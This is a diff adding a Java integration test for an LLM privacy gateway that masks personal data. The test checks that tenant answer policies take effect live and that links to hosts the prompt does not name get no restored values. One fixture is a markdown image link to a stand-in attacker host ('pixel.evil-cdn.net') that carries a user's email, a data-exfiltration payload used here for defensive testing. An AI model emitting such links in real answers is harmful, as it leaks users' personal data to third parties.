@@ -1,0 +1,167 @@
+package io.mantle.gateway;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.net.http.HttpResponse;
+import java.time.Duration;
+import java.util.List;
+import java.util.Locale;
+import java.util.concurrent.Callable;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.TestInfo;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * What a tenant's policy says of answers, put over the admin API, holds for the next answers:
+ * through Envoy, with no restart, whole and streamed.
+ */
+@ExtendWith(SharedStack.class)
+final class AnswerPolicyIT {
+  private static final Duration IN_FORCE_MAX = Duration.ofSeconds(1);
+  private static final Duration TENANT_MADE_MAX = Duration.ofSeconds(5);
+  private static final String NAME = "Maria Garcia";
+  private static final String MAIL = "maria.garcia@acme-mail.com";
+  private static final String PROMPT =
+      "Please greet " + NAME + " from me, and write to " + MAIL + " as well.";
+  private static final Pattern MASKED =
+      Pattern.compile("Please greet (?<name>.+) from me, and write to (?<mail>.+) as well\\.");
+
+  private final GatewayStack gateway;
+  private String tenant = "";
+  private String key = "";
+
+  AnswerPolicyIT(GatewayStack gateway) {
+    this.gateway = gateway;
+  }
+
+  @BeforeEach
+  void makeTenant(TestInfo test) throws Exception {
+    String name = test.getTestMethod().orElseThrow().getName() + test.getDisplayName();
+    tenant = "answers-" + Integer.toHexString(name.hashCode());
+    key = TestTenant.create(gateway, tenant, gateway.provider().baseUrl().toString());
+    Until.holds(TENANT_MADE_MAX, "the tenant's routes", () -> said("hello", false).equals("hello"));
+  }
+
+  @AfterEach
+  void removeTenant() throws Exception {
+    TestDatabase.update(gateway.database(), "DELETE FROM tenant WHERE id = ?", tenant);
+  }
+
+  @ParameterizedTest
+  @ValueSource(booleans = {false, true})
+  void strategy_switchedOffForAType_leavesThatSpellingOnly(boolean streamed) throws Exception {
+    double before = counted("mantle_restorations_total{strategy=\"CASE\"}");
+    assertThat(said("{NAME} wrote, {name}.", streamed))
+        .isEqualTo("MARIA GARCIA wrote, " + NAME + ".");
+    Until.holds(
+        IN_FORCE_MAX,
+        "the strategy counts itself",
+        () -> counted("mantle_restorations_total{strategy=\"CASE\"}") > before);
+
+    put("{\"restore\": {\"PERSON\": {\"case\": false}}}");
+    inForce("switched off", () -> !said("{NAME} wrote.", streamed).contains("MARIA GARCIA"));
+    assertThat(said("{name} wrote from {MAIL}.", streamed))
+        .isEqualToIgnoringCase(NAME + " wrote from " + MAIL + ".")
+        .startsWith(NAME);
+  }
+
+  @ParameterizedTest
+  @ValueSource(booleans = {false, true})
+  void link_toAHostThatThePromptDoesNotName_getsNoValueUnlessAllowed(boolean streamed)
+      throws Exception {
+    String link = "![{name}](https://pixel.evil-cdn.net/c?to={mail}) for {mail}";
+    double before = counted("mantle_links_withheld_total");
+
+    String withheld = said(link, streamed);
+    assertThat(withheld)
+        .startsWith("![" + NAME + "](https://pixel.evil-cdn.net/c?to=")
+        .endsWith(") for " + MAIL)
+        .doesNotContain("to=" + MAIL);
+    Until.holds(
+        IN_FORCE_MAX,
+        "the link is counted",
+        () -> counted("mantle_links_withheld_total") == before + 1);
+    assertThat(audited("link_withheld"))
+        .hasSize(1)
+        .allMatch(line -> line.contains("values=1 types={EMAIL=1}"))
+        .noneMatch(line -> line.contains("maria") || line.contains("evil-cdn"));
+
+    put("{\"link_hosts\": [\"*.evil-cdn.net\"]}");
+    inForce("host allowed", () -> said(link, streamed).contains("to=" + MAIL));
+    assertThat(said("https://evil-cdn.net/?to={mail}", streamed)).doesNotContain(MAIL);
+  }
+
+  /** The lines of the audit log that speak of an event of this tenant. */
+  private List<String> audited(String event) throws Exception {
+    return gateway
+        .everythingSaid()
+        .lines()
+        .filter(line -> line.contains("audit: " + event + " tenant=" + tenant + " "))
+        .toList();
+  }
+
+  private double counted(String metric) throws Exception {
+    return gateway
+        .extProcMetrics()
+        .lines()
+        .filter(line -> line.startsWith(metric + " "))
+        .mapToDouble(line -> Double.parseDouble(line.substring(metric.length() + 1)))
+        .sum();
+  }
+
+  /**
+   * What the client reads where the provider answers so: {@code {name}} and {@code {mail}} stand
+   * for what it was sent in their place, in capitals where they are.
+   */
+  private String said(String answer, boolean streamed) throws Exception {
+    gateway
+        .provider()
+        .answers(
+            (request, wire) -> {
+              String text = filled(answer, Chat.prompt(request.body()));
+              if (!streamed) {
+                wire.json(200, Chat.answer(text));
+                return;
+              }
+              wire.beginEvents();
+              for (String piece : Chat.pieces(text, 3)) {
+                wire.event(Chat.chunk(piece));
+              }
+              wire.event(Chat.lastChunk());
+              wire.event("[DONE]");
+              wire.end();
+            });
+    String body = streamed ? Chat.streaming(PROMPT) : Chat.saying(PROMPT);
+    RawClient.Answer got = gateway.chatAs(key, body);
+    assertThat(got.whole()).isTrue();
+    if (got.status() != 200) {
+      return "";
+    }
+    return streamed ? Chat.said(got.body()) : Chat.content(got.body());
+  }
+
+  private static String filled(String answer, String prompt) {
+    Matcher masked = MASKED.matcher(prompt);
+    assertThat(masked.matches()).isTrue();
+    return answer
+        .replace("{name}", masked.group("name"))
+        .replace("{mail}", masked.group("mail"))
+        .replace("{NAME}", masked.group("name").toUpperCase(Locale.ROOT))
+        .replace("{MAIL}", masked.group("mail").toUpperCase(Locale.ROOT));
+  }
+
+  private void put(String policy) throws Exception {
+    HttpResponse<String> answer =
+        gateway.admin("PUT", "/api/v1/tenants/" + tenant + "/privacy", policy);
+    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
+  }
+
+  private static void inForce(String what, Callable<Boolean> check) throws Exception {
+    Until.holds(IN_FORCE_MAX, what, check);
+  }
+}
